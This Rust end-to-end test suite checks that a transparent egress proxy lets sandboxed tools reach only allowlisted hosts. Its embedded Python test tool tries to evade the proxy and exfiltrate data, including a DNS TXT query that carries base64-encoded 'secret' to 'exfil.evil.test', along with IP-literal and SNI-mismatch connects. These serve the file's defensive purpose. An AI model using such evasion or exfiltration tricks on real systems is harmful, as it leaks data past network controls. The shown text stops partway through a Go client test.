//! Transparent egress end to end (`network = "transparent"`): the real
//! `egress-proxy` binary and an executor in this process; a Python tool
//! whose clients use no proxy at all (proxy variables removed, urllib with
//! no proxy handler, raw sockets, `curl --noproxy '*'`, Node's global
//! `fetch`) reaches allowed names over plain HTTP, TLS (a spliced tunnel)
//! and raw TCP, and nothing else: unlisted names are NXDOMAIN with a fact of
//! kind `dns` and never reach the upstream DNS, a TXT exfiltration query
//! likewise, a hard-coded IP is `ip_literal`, a TLS server name that is not
//! the name is `host_mismatch`, UDP to another port fails and is counted;
//! a nameserver named by an IPv6 address answers too; a `network = "proxy"`
//! tool is unchanged (no name resolves, no direct connect). Strict where the host has every layer, else best_effort.
//! Needs root (namespaces, nftables); skipped loudly otherwise.
//! Loopback only: the origins are on 127.0.0.2, the proxy's upstream DNS is
//! a fake on loopback, every address the children use lives in their own
//! namespaces.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use egress_e2e::executor::*;
use egress_e2e::harness::TOKEN;
use egress_e2e::postgres::Postgres;
use egress_e2e::stack::{proxy_bin, start_stack, Stack};
use egress_e2e::FakeDns;
use egress_executor::InvocationRequest;
use serde_json::{json, Value};

/// Why this host cannot run these tests, if it cannot.
fn unable() -> Option<String> {
    if proxy_bin().is_none() {
        return Some("egress-proxy binary not built (run `cargo build -p egress-proxy` first)".into());
    }
    if !is_root() {
        return Some("needs root (network namespaces, nftables)".into());
    }
    if let Err(e) = egress_executor::confine::transparent::nft() {
        return Some(e);
    }
    if python().is_none() {
        return Some("no python3".into());
    }
    None
}

/// The tool: every client below ignores the proxy (the variables are
/// removed first), so each connection it makes goes where the namespace
/// sends it.
const TOOL_PY: &str = r#"
import json, os, socket, ssl, struct, subprocess, urllib.request, urllib.error

for k in list(os.environ):
    if k.lower().endswith("_proxy") or k == "NODE_USE_ENV_PROXY":
        del os.environ[k]

WEB, TLS, DB = int(os.environ["WEB"]), int(os.environ["TLS"]), int(os.environ["DB"])
CA = os.environ["ORIGIN_CA"]

def attempt(f):
    try:
        return f()
    except Exception as e:
        return {"error": type(e).__name__, "errno": getattr(e, "errno", None), "text": str(e)[:200]}

def nameserver():
    try:
        for line in open("/etc/resolv.conf"):
            parts = line.split()
            if len(parts) >= 2 and parts[0] == "nameserver" and ":" not in parts[1]:
                return parts[1]
    except OSError:
        pass
    return "127.0.0.1"

def dns_rcode(name, qtype, server=None):
    q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    q += b"\0" + struct.pack("!HH", qtype, 1)
    server = server or nameserver()
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (server, 53))
    r = s.recv(512)
    return {"rcode": r[3] & 0xF, "answers": struct.unpack("!H", r[6:8])[0]}

def urllib_get(url):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(url, timeout=10) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        denial = json.loads(e.headers.get("X-Egress-Denial") or "null")
        return {"status": e.code, "reason": e.headers.get("X-Egress-Deny-Reason"), "denial": denial}

def echo():
    with socket.create_connection(("db.test", DB), timeout=10) as s:
        s.sendall(b"\x00raw bytes\n")
        return s.recv(100).decode()

def http_to_another_host():
    # The raw rule db.test:DB used to speak HTTP to another Host.
    with socket.create_connection(("db.test", DB), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n")
        head = s.recv(4096).decode(errors="replace").split("\r\n")
        reason = [l.split(":", 1)[1].strip() for l in head if l.lower().startswith("x-egress-deny-reason:")]
        return {"status": head[0], "reason": reason[0] if reason else None}

def tls(server_name):
    ctx = ssl.create_default_context(cafile=CA)
    if server_name != "tls.test":
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    with socket.create_connection(("tls.test", TLS), timeout=10) as raw:
        with ctx.wrap_socket(raw, server_hostname=server_name) as t:
            t.sendall(b"GET / HTTP/1.1\r\nHost: tls.test\r\nConnection: close\r\n\r\n")
            data = b""
            while True:
                chunk = t.recv(4096)
                if not chunk:
                    break
                data += chunk
            return {"status": data.split(b"\r\n", 1)[0].decode(), "body": data.split(b"\r\n\r\n", 1)[-1].decode()}

def ip_literal_http():
    with socket.create_connection(("192.0.2.1", 80), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nConnection: close\r\n\r\n")
        return s.recv(4096).decode(errors="replace").split("\r\n")[0]

def ip6_literal_http():
    with socket.create_connection(("2001:db8::1", 80), timeout=10) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: [2001:db8::1]\r\nConnection: close\r\n\r\n")
        return s.recv(4096).decode(errors="replace").split("\r\n")[0]

def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"hello", ("192.0.2.1", 9999))
    return "sent"

def curl():
    p = subprocess.run(["curl", "--noproxy", "*", "-s", "-m", "10", f"http://web.test:{WEB}/"],
                       capture_output=True, timeout=20)
    return {"code": p.returncode, "out": p.stdout.decode()}

def node():
    js = f"fetch('http://web.test:{WEB}/').then(r => r.text()).then(t => console.log(t)).catch(e => {{ console.log('ERR ' + e.cause); }})"
    p = subprocess.run(["node", "-e", js], capture_output=True, timeout=20)
    return {"code": p.returncode, "out": p.stdout.decode().strip(), "err": p.stderr.decode()[-300:]}

def run(input, ctx):
    return {
        "resolve_web": attempt(lambda: socket.gethostbyname("web.test")),
        "resolve_evil": attempt(lambda: socket.gethostbyname("evil.test")),
        "txt_exfil": attempt(lambda: dns_rcode("c2VjcmV0.exfil.evil.test", 16)),
        "resolve_at_v6_server": attempt(lambda: dns_rcode("web.test", 1, "2001:db8::53")),
        "http": attempt(lambda: urllib_get(f"http://web.test:{WEB}/")),
        "http_unlisted_port": attempt(lambda: urllib_get(f"http://web.test:{DB}/")),
        "raw": attempt(echo),
        "http_to_another_host": attempt(http_to_another_host),
        "tls": attempt(lambda: tls("tls.test")),
        "sni_mismatch": attempt(lambda: tls("other.test")),
        "ip_literal": attempt(ip_literal_http),
        "ip6_literal": attempt(ip6_literal_http),
        "udp": attempt(udp),
        "curl": attempt(curl) if input.get("curl") else None,
        "node": attempt(node) if input.get("node") else None,
    }
"#;

/// A `network = "proxy"` tool in the same stack: nothing outside the proxy.
const PROXY_TOOL_PY: &str = r#"
import os, socket

def attempt(f):
    try:
        return f()
    except Exception as e:
        return {"error": type(e).__name__, "errno": getattr(e, "errno", None)}

def run(input, ctx):
    return {
        "resolve": attempt(lambda: socket.gethostbyname("web.test")),
        "connect": attempt(lambda: socket.create_connection(("192.0.2.1", 80), timeout=5) and "connected"),
        "connect_synthetic": attempt(lambda: socket.create_connection(("198.18.0.1", int(os.environ["WEB"])), timeout=5) and "connected"),
    }
"#;

#[tokio::test]
async fn unmodified_clients_reach_allowed_names_and_nothing_else() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED unmodified_clients_reach_allowed_names_and_nothing_else: {why}");
        return;
    }
    // nft is there, so the kernel must take the rules (a failure here is
    // the setup's, not the host's, unless the kernel lacks nf_tables).
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let (db, db_connections) = egress_e2e::origin::echo_origin("127.0.0.2:0").await;
    let tls = egress_e2e::tls_origin::tls_origin("127.0.0.2:0", &["tls.test"]).await;
    let dns = FakeDns::start().await;
    for name in ["web.test", "db.test", "tls.test"] {
        dns.set(name, &["127.0.0.2"]);
    }
    dns.set("evil.test", &["127.0.0.2"]);
    let dir = TempDir::new("transparent");
    let ca = tls.write_ca(dir.path());
    dir.write("tool.py", TOOL_PY);
    dir.write("proxy_tool.py", PROXY_TOOL_PY);
    let runner = python_runner();
    let env = format!(
        "env = {{ WEB = \"{}\", TLS = \"{}\", DB = \"{}\", ORIGIN_CA = \"{}\" }}",
        web.addr.port(),
        tls.addr.port(),
        db.port(),
        ca.display()
    );
    let isolation = strongest_isolation();
    let tools = format!(
        r#"
[tools.tp]
network = "transparent"
egress = ["web.test:{web}", "tls.test:{tls}", "db.test:{db}"]

[tools.tp.process]
command = ["python3", "{runner}", "tool.py"]
{env}
read_paths = ["{ca}"]
isolation = "{isolation}"
pool = {{ warm = 0, max = 2 }}
timeout_ms = 60000

[tools.plain]
egress = ["web.test:{web}"]

[tools.plain.process]
command = ["python3", "{runner}", "proxy_tool.py"]
{env}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 30000
"#,
        web = web.addr.port(),
        tls = tls.addr.port(),
        db = db.port(),
        runner = runner.display(),
        ca = ca.display(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let input = json!({"curl": which("curl").is_some(), "node": node().is_some()});
    let res = exec.invoke(invocation("tp", input)).await;
    assert!(res.ok, "{res:#?}");
    let out: Value = res.output.clone().unwrap();
    eprintln!("{out:#}");

    // DNS: a listed name gets a synthetic address; an unlisted one is
    // NXDOMAIN (EAI_NONAME), as is a TXT query carrying data out.
    let synthetic = out["resolve_web"].as_str().unwrap_or_default();
    assert!(
        synthetic.starts_with("198.18.") || synthetic.starts_with("198.19."),
        "{out:#}"
    );
    assert_eq!(out["resolve_evil"]["error"], json!("gaierror"), "{out:#}");
    assert_eq!(out["txt_exfil"]["rcode"], json!(3), "{out:#}");
    // A nameserver named by an IPv6 address is answered the same.
    assert_eq!(
        out["resolve_at_v6_server"],
        json!({"rcode": 0, "answers": 1}),
        "{out:#}"
    );
    // Plain HTTP, raw TCP and TLS to listed names work; the listed name on
    // a port it is not listed for does not.
    assert_eq!(out["http"]["status"], json!(200), "{out:#}");
    assert_eq!(out["http"]["body"], json!("hello from origin"), "{out:#}");
    assert_eq!(out["http_unlisted_port"]["status"], json!(403), "{out:#}");
    assert_eq!(out["http_unlisted_port"]["reason"], json!("not_allowlisted"), "{out:#}");
    // The same denial for an agent: one line of JSON with the rule and a hint.
    let denial = &out["http_unlisted_port"]["denial"];
    assert_eq!(denial["reason"], json!("not_allowlisted"), "{out:#}");
    assert_eq!(denial["rule"], json!("allowlist"), "{out:#}");
    assert_eq!(denial["tool"], json!("tp"), "{out:#}");
    assert!(
        denial["hint"].as_str().is_some_and(|h| h.contains("do not retry")),
        "{out:#}"
    );
    assert_eq!(out["raw"], json!("\u{0}raw bytes\n"), "{out:#}");
    // The raw rule spoken as HTTP to another host: refused (the first bytes
    // are HTTP, so the Host must name db.test), not relayed to db.test.
    assert_eq!(out["http_to_another_host"]["reason"], json!("host_mismatch"), "{out:#}");
    assert_eq!(db_connections.load(std::sync::atomic::Ordering::SeqCst), 1, "{out:#}");
    assert_eq!(out["tls"]["status"], json!("HTTP/1.1 200 OK"), "{out:#}");
    assert_eq!(out["tls"]["body"], json!("ok from the tls origin\n"), "{out:#}");
    // A TLS server name that is not the name: no tunnel.
    assert!(out["sni_mismatch"]["error"].is_string(), "{out:#}");
    // A hard-coded address: the connect lands at the proxy, which denies it.
    assert!(out["ip_literal"].as_str().is_some_and(|l| l.contains("403")), "{out:#}");
    // The same over IPv6 (the [::1]:3127 listener).
    assert!(
        out["ip6_literal"].as_str().is_some_and(|l| l.contains("403")),
        "{out:#}"
    );
    // UDP anywhere but DNS: dropped in the namespace (EPERM), and counted
    // once the child is gone.
    assert_eq!(out["udp"]["errno"], json!(1), "{out:#}");
    let dropped = async {
        loop {
            let m = exec.metrics().encode();
            let line = m
                .lines()
                .find(|l| l.starts_with("executor_transparent_udp_dropped_total{tool=\"tp\"}"))
                .map(str::to_string);
            if line.as_deref().is_some_and(|l| !l.ends_with(" 0")) {
                return line;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    };
    let dropped = tokio::time::timeout(Duration::from_secs(10), dropped).await;
    assert_eq!(
        dropped.ok().flatten().as_deref(),
        Some("executor_transparent_udp_dropped_total{tool=\"tp\"} 1"),
        "{}",
        exec.metrics().encode()
    );
    if which("curl").is_some() {
        assert_eq!(out["curl"]["out"], json!("hello from origin"), "{out:#}");
    }
    if node().is_some() {
        assert_eq!(out["node"]["out"], json!("hello from origin"), "{out:#}");
    }

    // The facts of the run: each denial, labelled by its entrance.
    let facts: Vec<(String, String, String)> = res
        .facts
        .iter()
        .map(|f| {
            let t = f.target.as_ref();
            (
                f.reason.clone(),
                t.map(|t| t.kind.clone()).unwrap_or_default(),
                t.map(|t| t.host.clone()).unwrap_or_default(),
            )
        })
        .collect();
    let has = |reason: &str, kind: &str, host: &str| {
        facts
            .iter()
            .any(|(r, k, h)| r == reason && k == kind && h.contains(host))
    };
    assert!(has("not_allowlisted", "dns", "evil.test"), "{facts:#?}");
    assert!(has("not_allowlisted", "dns", "exfil.evil.test"), "{facts:#?}");
    assert!(has("ip_literal", "transparent", "192.0.2.1"), "{facts:#?}");
    assert!(has("ip_literal", "transparent", "2001:db8::1"), "{facts:#?}");
    assert!(has("host_mismatch", "transparent", "tls.test"), "{facts:#?}");
    // No query for a denied name ever left the proxy.
    let asked = dns.queries();
    assert!(!asked.iter().any(|q| q.contains("evil.test")), "{asked:?}");

    // A `network = "proxy"` tool: no name resolves, no connect leaves.
    let res = exec.invoke(invocation("plain", json!({}))).await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    eprintln!("{out:#}");
    assert_eq!(out["resolve"]["error"], json!("gaierror"), "{out:#}");
    // Landlock's TCP rule (connect to the proxy port only) where the kernel
    // has it: EACCES; else the namespace's missing route.
    let landlock_tcp = egress_executor::confine::host(&Default::default()).landlock_abi >= 4;
    for what in ["connect", "connect_synthetic"] {
        if landlock_tcp {
            assert_eq!(out[what]["errno"], json!(13), "{what}: {out:#}");
        } else {
            assert!(out[what]["error"].is_string(), "{what}: {out:#}");
        }
    }
    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// An ad-hoc command reaches a listed name with no proxy variables.
const AD_HOC_PY: &str = r#"
import os, urllib.request
for k in list(os.environ):
    if k.lower().endswith("_proxy"):
        del os.environ[k]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
with opener.open(f"http://web.test:{os.environ['WEB']}/", timeout=10) as r:
    print(r.status, r.read().decode())
"#;

/// `egress-executor run --tool T -- CMD` gives the command its tool's
/// network: under `network = "transparent"` a client that ignores the proxy
/// variables resolves a listed name and reaches it (it used to run on the
/// proxy network, where the name does not resolve). A setting an ad-hoc
/// command cannot have (`fork_server`) is named on the status line.
#[tokio::test]
async fn run_gives_an_ad_hoc_command_its_tools_transparent_network() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED run_gives_an_ad_hoc_command_its_tools_transparent_network: {why}");
        return;
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let dns = FakeDns::start().await;
    dns.set("web.test", &["127.0.0.2"]);
    let dir = TempDir::new("transparent-run");
    let runner = python_runner();
    dir.write("tool.py", "def run(input, ctx):\n    return None\n");
    let isolation = strongest_isolation();
    let tools = format!(
        r#"
[tools.db]
network = "transparent"
egress = ["web.test:{web}"]

[tools.db.process]
command = ["python3", "{runner}", "tool.py"]
protocol = "loom"
fork_server = true
env = {{ WEB = "{web}" }}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
"#,
        web = web.addr.port(),
        runner = runner.display(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    exec.shutdown();
    let out = tokio::task::spawn_blocking({
        let dir = dir.path().to_path_buf();
        move || {
            Command::new(env!("CARGO_BIN_EXE_egress-executor"))
                .args(["run", "--config"])
                .arg(dir.join("egress.toml"))
                .args(["--tool", "db", "--", "python3", "-c", AD_HOC_PY])
                .current_dir(&dir)
                .env("EGRESS_CONTROL_TOKEN", TOKEN)
                .output()
                .unwrap()
        }
    })
    .await
    .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(out.status.code(), Some(0), "stdout: {stdout}\nstderr: {stderr}");
    assert_eq!(stdout.trim(), "200 hello from origin", "stderr: {stderr}");
    let status = stderr.lines().find(|l| l.starts_with("run ")).unwrap_or_default();
    assert!(
        status.ends_with("[not applied to an ad-hoc command: fork_server = true]"),
        "{stderr}"
    );
    drop(proxy);
}

/// The run's bounds on transparent connections: a tool whose clients use no
/// proxy, each mode one invocation (`input.mode`).
const GUARD_PY: &str = r#"
import base64, os, socket, time, urllib.request, urllib.error

for k in list(os.environ):
    if k.lower().endswith("_proxy"):
        del os.environ[k]

DB, WEB, WEB2 = int(os.environ["DB"]), int(os.environ["WEB"]), int(os.environ["WEB2"])

def echo_open():
    s = socket.create_connection(("db.test", DB), timeout=10)
    s.sendall(b"ping\n")
    got = s.recv(100)
    if got != b"ping\n":
        raise RuntimeError(f"no echo: {got!r}")
    return s

def wait_end(s, limit):
    # Blocks until the proxy ends the relay: how, and after how long.
    t0 = time.monotonic()
    s.settimeout(limit)
    try:
        how = "eof" if s.recv(100) == b"" else "data"
    except socket.timeout:
        how = "still open"
    except OSError as e:
        how = "reset"
    return {"how": how, "after_ms": int((time.monotonic() - t0) * 1000)}

def slots():
    a = echo_open()
    b = socket.create_connection(("db.test", DB), timeout=10)
    b.sendall(b"second\n")
    b.settimeout(2)
    try:
        early = b.recv(100).decode()
    except socket.timeout:
        early = "waiting"
    a.close()
    b.settimeout(10)
    try:
        late = b.recv(100).decode()
    except OSError as e:
        late = type(e).__name__
    return {"early": early, "late": late}

def get(url, auth):
    req = urllib.request.Request(url, headers={"Proxy-Authorization": auth})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(req, timeout=10) as r:
            return {"status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "reason": e.headers.get("X-Egress-Deny-Reason")}

def run(input, ctx):
    mode = input["mode"]
    if mode in ("run_end", "deadline"):
        return wait_end(echo_open(), 15)
    if mode == "slots":
        return slots()
    if mode == "credential":
        auth = "Basic " + base64.b64encode(input["credential"].encode()).decode()
        return {
            "listed": get(f"http://web.test:{WEB}/", auth),
            "others": get(f"http://web.test:{WEB2}/", auth),
        }
"#;

/// The proxy's guarantees hold on transparent connections as on CONNECT
/// tunnels: ending the run severs an open raw relay; the fetch deadline
/// cuts one; `max_concurrent_fetches` makes the next connection wait for a
/// slot; and another run's credential sent as `Proxy-Authorization` changes
/// nothing (the namespace is the identity: the request is decided on this
/// run's policy, and the header never reaches the origin).
#[tokio::test]
async fn run_end_deadline_slots_and_identity_hold_on_transparent_connections() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED run_end_deadline_slots_and_identity_hold_on_transparent_connections: {why}");
        return;
    }
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let web2 = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let (db, db_connections) = egress_e2e::origin::echo_origin("127.0.0.2:0").await;
    let dns = FakeDns::start().await;
    for name in ["web.test", "db.test"] {
        dns.set(name, &["127.0.0.2"]);
    }
    let dir = TempDir::new("transparent-guards");
    dir.write("guard.py", GUARD_PY);
    let runner = python_runner();
    let isolation = strongest_isolation();
    let tool = |id: &str, egress: &str, limits: &str| {
        format!(
            r#"
[tools.{id}]
network = "transparent"
egress = [{egress}]
{limits}

[tools.{id}.process]
command = ["python3", "{runner}", "guard.py"]
env = {{ WEB = "{web}", WEB2 = "{web2}", DB = "{db}" }}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 30000
"#,
            runner = runner.display(),
            web = web.addr.port(),
            web2 = web2.addr.port(),
            db = db.port(),
        )
    };
    let db_rule = format!("\"db.test:{}\"", db.port());
    let tools = [
        tool("hold", &db_rule, "fetch_timeout_ms = 60000"),
        tool("short", &db_rule, "fetch_timeout_ms = 1500"),
        tool("one", &db_rule, "fetch_timeout_ms = 60000\nmax_concurrent_fetches = 1"),
        tool("cred", &format!("\"web.test:{}\"", web.addr.port()), ""),
        // The other run's tool: allowed where `cred` is not.
        format!("\n[tools.other]\negress = [\"web.test:{}\"]\n", web2.addr.port()),
    ]
    .concat();
    let Stack { proxy, exec, control } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let invoke = |tool: &str, input: Value, run_id: Option<&str>| {
        let exec = exec.clone();
        let req = InvocationRequest {
            run_id: run_id.map(Into::into),
            ..invocation(tool, input)
        };
        tokio::spawn(async move { exec.invoke(req).await })
    };
    let opened = || db_connections.load(std::sync::atomic::Ordering::SeqCst);

    // Run end: once the relay is up, the run is ended from the control API.
    let before = opened();
    let run_id = format!("tp-guard-{}", std::process::id());
    let held = invoke("hold", json!({"mode": "run_end"}), Some(&run_id));
    assert!(
        eventually(Duration::from_secs(20), || opened() > before).await,
        "the relay never reached the origin"
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    let r =
        egress_e2e::harness::control_call(control, "DELETE", &format!("/v1/runs/{run_id}"), None, Some(TOKEN)).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let run_end = held.await.unwrap();
    eprintln!("run end: {:#?}", run_end.output);

    // The deadline: 1.5 s after the connection came in.
    let deadline = invoke("short", json!({"mode": "deadline"}), None).await.unwrap();
    eprintln!("deadline: {:#?}", deadline.output);

    // One slot: the second connection waits until the first is closed.
    let slots = invoke("one", json!({"mode": "slots"}), None).await.unwrap();
    eprintln!("slots: {:#?}", slots.output);

    // Another run's credential, on `cred`'s transparent connections.
    let (other, secret) = egress_e2e::harness::create_run_at(control, "other").await;
    let input = json!({"mode": "credential", "credential": format!("{other}:{secret}")});
    let cred = invoke("cred", input, None).await.unwrap();
    eprintln!("credential: {:#?}", cred.output);

    assert!(run_end.output.is_some(), "{run_end:#?}");
    let out = run_end.output.clone().unwrap();
    assert!(
        out["how"] == json!("eof") || out["how"] == json!("reset"),
        "run end: {out:#}"
    );
    assert!(out["after_ms"].as_u64().unwrap() < 10_000, "run end: {out:#}");

    assert!(deadline.ok, "{deadline:#?}");
    let out = deadline.output.clone().unwrap();
    assert!(
        out["how"] == json!("eof") || out["how"] == json!("reset"),
        "deadline: {out:#}"
    );
    let after = out["after_ms"].as_u64().unwrap();
    assert!((500..10_000).contains(&after), "deadline: {out:#}");

    assert!(slots.ok, "{slots:#?}");
    let out = slots.output.clone().unwrap();
    assert_eq!(out["early"], json!("waiting"), "slots: {out:#}");
    assert_eq!(out["late"], json!("second\n"), "slots: {out:#}");

    assert!(cred.ok, "{cred:#?}");
    let out = cred.output.clone().unwrap();
    // This run's own rule: allowed, as with no header; the header (another
    // run's credential) does not reach the origin.
    assert_eq!(out["listed"]["status"], json!(200), "credential: {out:#}");
    for head in web.heads() {
        assert!(!head.to_ascii_lowercase().contains("proxy-authorization"), "{head}");
        assert!(!head.contains(&secret), "{head}");
    }
    // The other run's rule does not apply here: denied, on this run.
    assert_eq!(out["others"]["status"], json!(403), "credential: {out:#}");
    assert_eq!(out["others"]["reason"], json!("not_allowlisted"), "credential: {out:#}");
    assert_eq!(web2.hits.load(std::sync::atomic::Ordering::SeqCst), 0);
    assert!(
        cred.facts.iter().any(|f| f.reason == "not_allowlisted"
            && f.target
                .as_ref()
                .is_some_and(|t| t.kind == "transparent" && t.port == web2.addr.port())),
        "{:#?}",
        cred.facts
    );
    let r =
        egress_e2e::harness::control_call(control, "GET", &format!("/v1/runs/{other}/facts"), None, Some(TOKEN)).await;
    assert_eq!(r.status, 200, "{}", r.text());
    let v: Value = serde_json::from_slice(&r.body).unwrap();
    assert_eq!(v["facts"], json!([]), "the other run has no facts: {v:#}");

    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// `psql` (no proxy support at all) as the tool's client.
const PSQL_PY: &str = r#"
import os, subprocess

def psql(host):
    p = subprocess.run(
        [os.environ["PSQL"], "-X", "-w", "-A", "-t", "-h", host, "-p", os.environ["PGPORT"],
         "-U", "postgres", "-d", "postgres", "-c", "select 1"],
        capture_output=True, timeout=30, env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"),
                                              "PGCONNECT_TIMEOUT": "10", "HOME": "/nonexistent"})
    return {"code": p.returncode, "out": p.stdout.decode().strip(), "err": p.stderr.decode()[-300:]}

def run(input, ctx):
    return {"listed": psql("db.test"), "unlisted": psql("evil-db.test")}
"#;

/// `psql`, an unmodified client that speaks the PostgreSQL protocol, runs
/// `select 1` on a server allowed as `db.test:<port>` (a raw relay through
/// the proxy); to a name the policy does not list it fails at the name, with
/// a fact, and the upstream DNS is never asked.
#[tokio::test]
async fn psql_reaches_a_listed_database_and_nothing_else() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED psql_reaches_a_listed_database_and_nothing_else: {why}");
        return;
    }
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    // On 127.0.0.2, an address the stack's proxy may dial.
    let Some(pg) = Postgres::start_in(None, "127.0.0.2") else {
        eprintln!("SKIPPED psql_reaches_a_listed_database_and_nothing_else: no PostgreSQL here (see above)");
        return;
    };
    let dns = FakeDns::start().await;
    dns.set("db.test", &["127.0.0.2"]);
    dns.set("evil-db.test", &["127.0.0.2"]);
    let dir = TempDir::new("transparent-psql");
    dir.write("psql_tool.py", PSQL_PY);
    let tools = format!(
        r#"
[tools.pg]
network = "transparent"
egress = ["db.test:{port}"]

[tools.pg.process]
command = ["python3", "{runner}", "psql_tool.py"]
env = {{ PSQL = "{psql}", PGPORT = "{port}" }}
isolation = "{isolation}"
pool = {{ warm = 0, max = 1 }}
timeout_ms = 60000
"#,
        port = pg.port,
        runner = python_runner().display(),
        psql = Postgres::psql_program().display(),
        isolation = strongest_isolation(),
    );
    let Stack { proxy, exec, .. } = start_stack(&proxy_bin().unwrap(), &dir, dns.addr, &tools);
    let res = exec.invoke(invocation("pg", json!({}))).await;
    assert!(res.ok, "{res:#?}");
    let out = res.output.clone().unwrap();
    eprintln!("{out:#}");
    assert_eq!(out["listed"]["code"], json!(0), "{out:#}");
    assert_eq!(out["listed"]["out"], json!("1"), "{out:#}");
    assert_ne!(out["unlisted"]["code"], json!(0), "{out:#}");
    assert!(
        out["unlisted"]["err"]
            .as_str()
            .unwrap_or_default()
            .contains("evil-db.test"),
        "{out:#}"
    );
    assert_denied_at_dns(&res.facts, &dns, "evil-db.test");
    exec.shutdown();
    exec.drain(Duration::from_secs(5)).await;
    drop(proxy);
}

/// A Go HTTP client with its own transport and no proxy (`Proxy: nil`),
/// resolving with Go's own resolver (built with `-tags netgo`, which reads
/// `/etc/resolv.conf` and asks the nameserver itself). A plain tool: it
/// reads its input line, then fetches each URL it was given and prints one
/// line per URL.
const GO_CLIENT: &str = r#"package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"
)

func main() {
	bufio.NewReader(os.Stdin).ReadString('\n')
	resolver := &net.Resolver{PreferGo: true}
	dialer := &net.Dialer{Timeout: 10 * time.Second, Resolver: resolver}
	client := &http.Client{
		Transport: &http.Transport{Proxy: nil, DialContext: dialer.DialContext},
		Timeout:   15 * time.Second,
	}
	for _, url := range os.Args[1:] {
		out := map[string]interface{}{"url": url}
		resp, err := client.Get(url)
		if err != nil {
			out["error"] = err.Error()
		} else {
			body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
			resp.Body.Close()
			out["status"] = resp.StatusCode
			out["body"] = string(body)
		}
		line, _ := json.Marshal(out)
		fmt.Println(string(line))
	}
}
"#;

/// Builds [`GO_CLIENT`] into `dir`; `Err` says why not. Go's build cache
/// and GOPATH are in one directory under the system's temp dir, kept across
/// runs: the first build compiles `net/http` with `netgo` (tens of seconds
/// on a small machine), later ones take about a second.
fn build_go_client(dir: &std::path::Path) -> Result<PathBuf, String> {
    let go = which("go").ok_or("no go toolchain (apt-get install golang-go)")?;
    std::fs::write(dir.join("main.go"), GO_CLIENT).map_err(|e| e.to_string())?;
    let bin = dir.join("goclient");
    let out = Command::new(go)
        .current_dir(dir)
        .args(["build", "-tags", "netgo", "-trimpath", "-o"])
        .arg(&bin)
        .arg("main.go")
        .env("CGO_ENABLED", "0")
        .env("GOCACHE", std::env::temp_dir().join("loom-egress-test-go/cache"))
        .env("GOPATH", std::env::temp_dir().join("loom-egress-test-go/path"))
        .env("GOPROXY", "off")
        .env("GO111MODULE", "off")
        .output()
        .map_err(|e| e.to_string())?;
    if !out.status.success() {
        return Err(format!("go build failed: {}", String::from_utf8_lossy(&out.stderr)));
    }
    Ok(bin)
}

/// A Go client (pure-Go resolver, its own transport, no proxy) reaches a
/// listed name over HTTP; an unlisted name does not resolve (a fact, no
/// upstream query).
#[tokio::test]
async fn a_go_client_reaches_a_listed_name_and_nothing_else() {
    if let Some(why) = unable() {
        eprintln!("SKIPPED a_go_client_reaches_a_listed_name_and_nothing_else: {why}");
        return;
    }
    let dir = TempDir::new("transparent-go");
    let started = std::time::Instant::now();
    let bin = match build_go_client(dir.path()) {
        Ok(b) => b,
        Err(why) => {
            eprintln!("SKIPPED a_go_client_reaches_a_listed_name_and_nothing_else: {why}");
            return;
        }
    };
    eprintln!("go client built in {:?}", started.elapsed());
    if let Err(e) = egress_executor::confine::transparent::support() {
        panic!("transparent egress cannot be set up on this host: {e}");
    }
    let web = egress_e2e::origin::http_origin("127.0.0.2:0").await;
    let dns = FakeDns::start().await;
